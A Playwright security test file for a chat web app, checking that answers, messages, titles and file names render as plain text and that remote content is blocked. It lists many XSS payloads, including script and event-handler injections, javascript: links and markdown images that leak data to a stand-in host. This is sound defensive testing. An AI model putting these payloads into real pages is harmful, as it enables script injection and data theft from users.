"""Nothing that somebody else wrote runs in the page or makes it talk to anybody.

Every visit is watched: a script that runs complains, a request elsewhere is recorded, and either
fails the test. The vectors follow OWASP's XSS filter evasion sheet.
"""

import re

from playwright.sync_api import Page, expect

from tests.browser.conftest import Installation, Visits
from tests.browser.hands import answers, ask, history, questions
from tests.browser.upstream import Scripted

BAIT = "https://canary.example"
VECTORS = (
    "<script>console.error('ran')</script>",
    "<img src=x onerror=\"console.error('ran')\">",
    f"<img src={BAIT}/pixel.png>",
    f"<svg onload=\"fetch('{BAIT}')\"><use href='{BAIT}/a.svg#b'/></svg>",
    f"<iframe src={BAIT}></iframe><object data={BAIT}></object><embed src={BAIT}>",
    f"<link rel=stylesheet href={BAIT}/a.css><style>@import '{BAIT}/b.css';</style>",
    f"<video poster={BAIT}/p.png src={BAIT}/v.mp4 autoplay></video>",
    f"<form action={BAIT}><button autofocus onfocus=console.error('ran')>x</button></form>",
    f"<meta http-equiv=refresh content='0;url={BAIT}'><base href={BAIT}>",
    "<details open ontoggle=console.error('ran')>x</details>",
    "<a href=\"javascript:console.error('ran')\">x</a>",
    "[click](javascript:console.error('ran'))",
    "[click](JaVaScRiPt&colon;console.error('ran'))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"![picture]({BAIT}/leak.png?q=secret)",
    f"![picture][ref]\n\n[ref]: {BAIT}/leak.png",
    f"[![nested]({BAIT}/leak.png)]({BAIT})",
    f"<{BAIT}/auto> {BAIT}/bare",
    f"$\\href{{javascript:console.error('ran')}}{{x}}$ $\\includegraphics{{{BAIT}/a.png}}$",
    "$$\\htmlData{x=y}{\\url{javascript:console.error('ran')}}$$",
    "```html\n<script>console.error('ran')</script>\n```",
    "```mermaid\ngraph TD; a[<img src=x onerror=console.error('ran')>]\n```",
    "| <script>console.error('ran')</script> |\n|---|\n| <img src=x onerror=console.error('ran')> |",
    "- [ ] <svg/onload=console.error('ran')>",
    "\u202e<script>console.error('ran')</script>\x07\ufeff",
)


def test_an_answer_full_of_attacks_is_only_text(page: Page, scripted: Scripted) -> None:
    scripted.says("\n\n".join(VECTORS) + "\n\nThe end of it.")
    ask(page, "Attack me")
    expect(answers(page).last).to_contain_text("The end of it.")
    answer = answers(page).last
    for forbidden in (
        "script",
        "iframe",
        "object",
        "embed",
        "form",
        "video",
        "style",
        "link",
        "meta",
    ):
        expect(answer.locator(forbidden)).to_have_count(0)
    expect(answer.locator("img")).to_have_count(0)
    for link in answer.locator("a").all():
        assert (link.get_attribute("href") or "").startswith("https://canary.example")
        assert link.get_attribute("rel") == "noopener noreferrer"
    expect(answer.get_by_text("<script>console.error('ran')</script>").first).to_be_visible()


def test_a_growing_attack_is_only_text(page: Page, scripted: Scripted) -> None:
    held = scripted.says_slowly("\n\n".join(VECTORS), words=9)
    page.get_by_label("Message", exact=True).fill("Attack me slowly")
    page.keyboard.press("Enter")
    expect(answers(page).last).to_contain_text("onerror")
    held.release()
    expect(answers(page).last).to_have_attribute("aria-busy", "false")
    expect(answers(page).last.locator("img, script, iframe")).to_have_count(0)


def test_ones_own_words_are_only_text(page: Page) -> None:
    ask(page, "\n".join(VECTORS))
    expect(questions(page).last).to_contain_text("<script>console.error('ran')</script>")
    expect(questions(page).last.locator("img, script, iframe, a")).to_have_count(0)
    page.get_by_role("button", name="What was sent").click()
    expect(page.get_by_role("dialog")).to_contain_text("<script>")
    page.keyboard.press("Escape")
    page.keyboard.press("Control+k")
    page.get_by_role("combobox", name="Words to look for").fill("onerror")
    expect(page.get_by_role("option").first).to_contain_text("onerror")
    expect(page.get_by_role("dialog").locator("img, script")).to_have_count(0)


def test_a_title_is_only_text(page: Page, lowkey: Installation) -> None:
    ask(page, "To be titled")
    conversation = page.url.rsplit("/", 1)[1]
    for vector in VECTORS[:3]:
        lowkey.ask(f"/api/conversations/{conversation}", {"title": vector}, "PATCH")
        expect(page.get_by_role("heading", level=1)).to_have_text(vector)
        expect(history(page).filter(has_text=vector).first).to_be_visible()
        expect(page).to_have_title(f"{vector} · Lowkey")


def test_a_file_name_is_only_text(page: Page) -> None:
    name = "<img src=x onerror=console.error('ran')>.txt"
    with page.expect_file_chooser() as chooser:
        page.get_by_role("button", name="Attach files").click()
    chooser.value.set_files([{"name": name, "mimeType": "text/plain", "buffer": b"words"}])
    expect(page.get_by_role("button", name=re.compile("^Remove .*onerror"))).to_be_visible()
    ask(page, "What a name")
    expect(questions(page).last.get_by_role("link")).to_contain_text("onerror")


def test_a_page_brought_as_a_picture_is_not_shown(page: Page, lowkey: Installation) -> None:
    stored = lowkey.ask("/api/files?name=x.svg", b"<svg onload=console.error('ran')>", "PUT")
    with page.expect_download():
        page.evaluate("url => { location.href = url }", f"/api/files/{stored['file_id']}")


def test_a_remote_picture_is_loaded_only_by_a_click(visit: Visits, scripted: Scripted) -> None:
    page = visit()
    scripted.says(f"Look: ![a chart]({BAIT}/chart.png)")
    ask(page, "Show me a chart")
    expect(answers(page).last).to_contain_text("a chart")
    expect(answers(page).last).to_contain_text("Not loaded")
    link = answers(page).last.get_by_role("link", name="Open in a new tab")
    context = page.context
    with context.expect_event("request", lambda one: one.url.startswith(BAIT)) as asked:
        link.click()
    assert asked.value.url == f"{BAIT}/chart.png"
    visit.watch.complaints.remove(f"asked for {BAIT}/chart.png")


def test_the_page_forbids_itself_whatever_it_does_not_need(page: Page) -> None:
    policy = page.request.get(page.url).headers["content-security-policy"]
    assert "default-src 'none'" in policy
    assert "script-src 'self'" in policy
    assert "unsafe-eval" not in policy
